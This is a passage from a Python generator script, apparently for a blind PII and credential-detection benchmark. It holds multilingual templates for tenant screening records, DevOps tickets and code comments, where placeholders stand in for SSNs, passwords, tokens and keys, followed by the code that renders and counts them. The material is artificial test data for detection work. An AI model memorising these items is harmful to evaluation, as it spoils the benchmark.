    "Test ortamı kartı <%~testcard:5555555555554444%> ile 3D Secure denemesi başarılı.",
    "Hediye kartı kodu <%~gift%> bakiyesi 250 TL.",
)


# ================================================================ templates: tenant screening, regional dev tickets
fam('tenant_screening_us_uk', 'en',
    "Rental application #<%~num:7%> – applicant <%name:en%>, SSN <%ssn%>, current landlord reference attached. Screening fee paid by card ending <%~last4%>.",
    "Tenant screening report: SSN <%ssn:plain%> verified (issued in state WA), eviction search: none; credit file id <%~uuid%>.",
    "Co-signer form: Social Security Number <%ssn%>; ITIN not accepted in place of SSN (we received <%~itin%> earlier).",
    "Lease renewal: unit 4B, rent <%~amount%>, security deposit held in escrow account <%~acctno:us%> (routing <%~aba%>).",
    "UK referencing: tenant NI number <%nino%>, guarantor NI number <%nino:plain%>; Right to Rent share code <%~pnr%><%~pnr%>.",
    "Letting agent note: the applicant wrote '<%~badnino:l1%>' in the NI box – that cannot be valid (first letter D). Asked for the correct one, received <%nino%>.",
    "Background check vendor callback: {\"subject\":{\"ssn\":\"<%ssn%>\",\"dob_match\":true},\"county_records\":[],\"report_id\":\"<%~stripeid:rpt%>\"}",
    "Please don't email SSNs. If you must, use the portal. Example on our FAQ: <%~samplessn%>. Our EIN for your records: <%~ein%>.",
    "Move-out inspection <%~date:us%>: deductions <%~amount%>; forwarding contact for the tenant: SSN-last-4 <%~maskssn%> only.",
    "Applicant typed the SSN with spaces and a stray dot: <%ssn|dots%>",
)

fam('pl_cs_hu_devops_tickets', 'pl',
    "JIRA OPS-<%r:1000,9999%>: po migracji Keycloaka hasło admina to <%sec:pwh%> – proszę zmienić przed piątkiem (realm id <%~uuid%>).",
    "Zgłoszenie: w logach aplikacji widać token Dockera <%sec:docker%>; unieważniłem go w Docker Hub. Obraz: <%~digest%>.",
    "Klucz API do Przelewy24 (CRC): <%sec:hex32%> – przeniesione do Vaulta, stary wpis usunięty z wiki.",
    "@@cs Ticket SD-<%r:1000,9999%>: přístup do Grafany – login monitoring, heslo <%sec:pw%>. Prosím neposílat dál.",
    "@@cs V repozitáři byl commitnut soubor id_rsa:\n<%sec:RSA%>\nKlíč byl odebrán ze serveru.",
    "@@cs Token pro API Fio banky: <%sec:hex64%> (jen pro čtení), číslo účtu v API <%~acctno:cz%>.",
    "@@hu Hibajegy #<%r:1000,9999%>: a Jenkins a következő jelszóval fut: <%sec:pws%> – kérem cserélni.",
    "@@hu A Mailgun kulcs kiszivárgott: <%sec:mailgun%>. Visszavonva <%~date:hu%>, incidens <%~ulid%>.",
    "@@hu Verzió <%~ver%>, build <%~build%>, commit <%~sha1%> – nincs érintett titok.",
    "Linear API: <%sec:lin%> – token osobisty, proszę nie commitować.",
)

fam('id_ms_vi_th_code_comments', 'id',
    "// TODO: pindahkan ke env! const MIDTRANS_SERVER_KEY = \"<%sec:midtrans%>\"; // order_id contoh: <%~order:ORD%>",
    "# kunci sementara untuk testing di staging, jangan dipakai di prod\nXENDIT_SECRET=<%sec:xendit%>",
    "@@ms // Kata laluan pangkalan data (sementara): <%sec:pwh%>\nconst db = mysql.createConnection({host: 'db-staging', user: 'app'});",
    "@@ms Token Shopify kedai: <%sec:shpat%> (jangan kongsi di WhatsApp), kedai id <%~num:11%>",
    "@@vi // Khóa bí mật JWT dùng cho môi trường dev\nJWT_SECRET=<%sec:pws%>\nJWT_KID=<%~uuid%>",
    "@@vi # Mã truy cập Zalo OA, hết hạn sau 25 giờ\nZALO_ACCESS_TOKEN=<%sec:ya29%>",
    "@@th # โทเค็นสำหรับ LINE Notify (ห้าม commit)\nLINE_NOTIFY_TOKEN=<%sec:hex40%>\n# build <%~build%> commit <%~sha7%>",
    "@@th // คีย์ตัวอย่างจากเอกสาร ไม่ใช่คีย์จริง: <%~akiaex%> / <%~awsexsecret%>",
    "# konfigurasi contoh, isi sendiri: API_KEY=<%~var:API_KEY%>  DB_PASS=<%~helmref:db.pass%>",
    "@@ar # مفتاح Tap Payments السري — لا ترسله لأحد\nTAP_SECRET_KEY=<%sec:tap%>",
)


# ---------------------------------------------------------------- main
def main():
    seen = set()
    lines = ['# pii-c20: blind PII / credential evaluation set, written by gen.py (random.Random(20611)).',
             '# Format: one sample per line, {{kind:text}} spans; see README.md.', '']
    kc = {k: 0 for k in KINDS}
    fam_stats = []
    langs = {}
    total_la = 0
    nsamp = 0
    for name, lang, tpls in FAMILIES:
        out = []
        la = 0
        fk = {k: 0 for k in KINDS}
        for t in tpls:
            assert t not in seen, 'template reused: ' + t[:60]
            seen.add(t)
            lg = lang
            if t.startswith('@@'):
                lg, t = t[2:].split(' ', 1)
            segs, n = render(t, name)
            la += n
            out.append(encode(segs))
            for s, k in segs:
                if k:
                    kc[k] += 1
                    fk[k] += 1
            langs[lg] = langs.get(lg, 0) + 1
            nsamp += 1
        total_la += la
        fam_stats.append((name, lang, len(tpls), la, fk))
        lines += ['# family: ' + name, '# look-alikes: %d' % la] + out + ['']
    with open(OUT, 'w', encoding='utf-8', newline='\n') as f:
        f.write('\n'.join(lines))
    if '-q' not in sys.argv:
        print('samples %d  families %d  look-alikes %d  spans %d' % (nsamp, len(FAMILIES), total_la, sum(kc.values())))
        print('spans by kind: ' + ' '.join('%s=%d' % kv for kv in kc.items()))
        print('languages (%d): ' % len(langs) + ' '.join('%s=%d' % kv for kv in sorted(langs.items(), key=lambda x: -x[1])))
        if '-v' in sys.argv:
            for s in fam_stats:
                print('%-34s %-4s n=%-3d la=%-3d %s' % (s[0], s[1], s[2], s[3], ' '.join('%s=%d' % kv for kv in s[4].items() if kv[1])))


if __name__ == '__main__':
    main()
